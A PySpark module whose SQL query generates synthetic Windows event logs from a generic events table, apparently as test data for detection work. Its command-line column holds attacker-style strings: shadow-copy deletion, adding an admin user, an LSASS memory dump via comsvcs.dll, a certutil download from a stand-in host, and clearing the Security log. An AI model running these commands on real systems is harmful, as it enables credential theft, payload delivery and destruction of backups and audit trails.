"""Event logs derived from the driver's ``events`` table, one row for each of its rows."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..schema import as_events

#: Runs alike on Spark and DuckDB; ``{events}`` names the source.
LOG_EVENTS_SQL = """
WITH b AS (
  SELECT event_id, CAST(ts AS TIMESTAMP) AS ts, user_id, event_type, CAST(regexp_extract(props, '[0-9]+', 0) AS INT) AS k FROM {events}
), w AS (
  SELECT *, CASE event_type
    WHEN 'error'    THEN CASE WHEN k < 70 THEN 4625 WHEN k < 85 THEN 4771 ELSE 4776 END
    WHEN 'view'     THEN CASE WHEN k < 70 THEN 4624 WHEN k < 90 THEN 4672 ELSE 4648 END
    WHEN 'signup'   THEN CASE WHEN k < 40 THEN 4720 WHEN k < 70 THEN 4732 WHEN k < 85 THEN 4728 ELSE 4769 END
    WHEN 'click'    THEN CASE WHEN k < 50 THEN 4688 WHEN k < 75 THEN 1 WHEN k < 88 THEN 3 ELSE 4104 END
    ELSE                 CASE WHEN k < 30 THEN 4698 WHEN k < 60 THEN 7045 WHEN k < 70 THEN 1102 WHEN k < 80 THEN 104 ELSE 22 END
  END AS eid, (event_id + k) % 10 AS j FROM b
), p AS (
  SELECT *, CASE WHEN eid IN (1, 3, 22) THEN 'Microsoft-Windows-Sysmon'
                 WHEN eid = 4104 THEN 'Microsoft-Windows-PowerShell'
                 WHEN eid = 7045 THEN 'Service Control Manager'
                 WHEN eid IN (104, 1102) THEN 'Microsoft-Windows-Eventlog'
                 ELSE 'Microsoft-Windows-Security-Auditing' END AS provider_name,
  CASE j WHEN 0 THEN 'whoami.exe' WHEN 1 THEN 'powershell.exe' WHEN 2 THEN 'vssadmin.exe' WHEN 3 THEN 'net.exe'
         WHEN 4 THEN 'rundll32.exe' WHEN 5 THEN 'notepad.exe' WHEN 6 THEN 'certutil.exe' WHEN 7 THEN 'wevtutil.exe'
         WHEN 8 THEN 'cmd.exe' ELSE 'agent.exe' END AS pn,
  CASE j WHEN 0 THEN 'whoami /all' WHEN 1 THEN 'powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' WHEN 2 THEN 'vssadmin delete shadows /all'
         WHEN 3 THEN 'net user admin /add' WHEN 4 THEN 'rundll32.exe comsvcs.dll, MiniDump 732 dump.bin full' WHEN 5 THEN 'notepad.exe readme.txt'
         WHEN 6 THEN 'certutil.exe -urlcache -split -f http://bad.example.test/a.exe' WHEN 7 THEN 'wevtutil cl Security'
         WHEN 8 THEN 'cmd.exe /c echo cve-2024-1234 CVE-2023-4567' ELSE 'agent.exe --run' END AS cl
  FROM w
)
SELECT event_id + 1 AS row_id, concat('HOST-', CAST(user_id % 8 AS STRING)) AS computer_name,
  CASE WHEN eid IN (1,3,22) THEN 'Microsoft-Windows-Sysmon/Operational' WHEN eid = 4104 THEN 'Microsoft-Windows-PowerShell/Operational'
       WHEN eid IN (7045,104) THEN 'System' ELSE 'Security' END AS log_name,
  provider_name, eid AS event_id, event_id AS event_record_id, ts AS time_created_utc,
  CASE WHEN eid IN (4624,4625,4771,4776,4648,4672,4688,1,3) THEN concat('user', CAST(user_id AS STRING)) ELSE concat('admin', CAST(user_id % 5 AS STRING)) END AS user_name,
  'LAB' AS domain,
  CASE WHEN eid IN (4624,4625,4771,4776,4648,4769) THEN concat('user', CAST(user_id AS STRING)) WHEN eid = 4720 THEN concat('new', CAST(user_id % 20 AS STRING))
       WHEN eid IN (4728,4732) THEN CASE WHEN k % 2 = 0 THEN 'Administrators' ELSE 'Readers' END END AS target_user_name,
  CASE WHEN eid IN (4728,4732) THEN CASE WHEN k % 2 = 0 THEN 'Administrators' ELSE 'Readers' END END AS p_targetusername,
  CASE WHEN eid IN (4728,4732) THEN concat('LAB', chr(92), 'new', CAST(user_id % 20 AS STRING)) END AS p_membername,
  CASE WHEN eid = 4776 THEN CASE WHEN k % 2 = 0 THEN '0x0' ELSE '0xc000006a' END END AS p_status,
  CASE WHEN eid = 4769 THEN '0x17' END AS p_ticketencryptiontype,
  CASE WHEN eid = 4769 THEN concat('svc', CAST(k % 7 AS STRING)) END AS p_servicename,
  CASE WHEN eid IN (4624,4625,4771,4776,4648,4769,3) THEN concat('10.0.0.', CAST(user_id % 20 AS STRING)) END AS source_ip,
  CASE WHEN eid = 3 THEN concat('203.0.113.', CAST(k AS STRING)) END AS destination_ip,
  CASE WHEN eid IN (4624,4625) THEN CASE k % 6 WHEN 0 THEN 2 WHEN 1 THEN 3 WHEN 2 THEN 8 WHEN 3 THEN 9 WHEN 4 THEN 10 ELSE 11 END END AS logon_type,
  CASE WHEN eid IN (4688,1,3) THEN pn END AS process_name,
  CASE WHEN eid IN (4688,1,3,7045) THEN replace(concat(CASE WHEN j = 9 THEN 'C:/Temp/' ELSE 'C:/Windows/System32/' END, pn), '/', chr(92)) END AS process_path,
  CASE WHEN eid IN (4688,1) THEN CASE WHEN k % 10 = 0 THEN 'winword.exe' ELSE 'explorer.exe' END END AS parent_process_name,
  CASE WHEN eid IN (4688,1) THEN cl WHEN eid = 4698 THEN replace(concat('<Command>', CASE WHEN j = 9 THEN 'C:/Temp/' ELSE 'C:/Windows/System32/' END, pn, '</Command>'), '/', chr(92)) END AS command_line,
  CASE WHEN eid = 4104 THEN cl END AS script_block,
  CASE WHEN eid = 22 THEN CASE WHEN k % 2 = 0 THEN concat('mfrggzdfmztwq2lkabcdefghijklmnopqrstuvwx77777777777777', CAST(k AS STRING), '.example.test') ELSE 'www.example.test' END END AS query_name,
  CASE WHEN eid = 4698 THEN concat('LabTask', CAST(k AS STRING)) END AS task_name,
  CASE WHEN eid = 7045 THEN concat('svc-', pn) END AS service_name,
  CASE WHEN eid IN (1,3) THEN user_id * 10 + j END AS process_id
FROM p
"""

PROPERTIES = ("targetusername", "membername", "status", "ticketencryptiontype", "servicename")


def spread(df: DataFrame) -> DataFrame:
    """Narrow rows over all cores: one well-packed file is few tasks, which all that follows would inherit."""
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df.repartition(cores) if df.rdd.getNumPartitions() < cores else df


def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The canonical event table; ``p_`` columns become the property map."""
    # The other braces of the text are none of the formatter's business.
    d = spark.sql(LOG_EVENTS_SQL, events=spread(spark.read.parquet(f"{sf_dir}/events.parquet")))
    pairs = F.filter(F.array(*(F.struct(F.lit(p).alias("k"), F.col(f"p_{p}").alias("v")) for p in PROPERTIES)), lambda x: x["v"].isNotNull())
    return as_events(d.withColumn("properties", F.map_from_entries(pairs)))
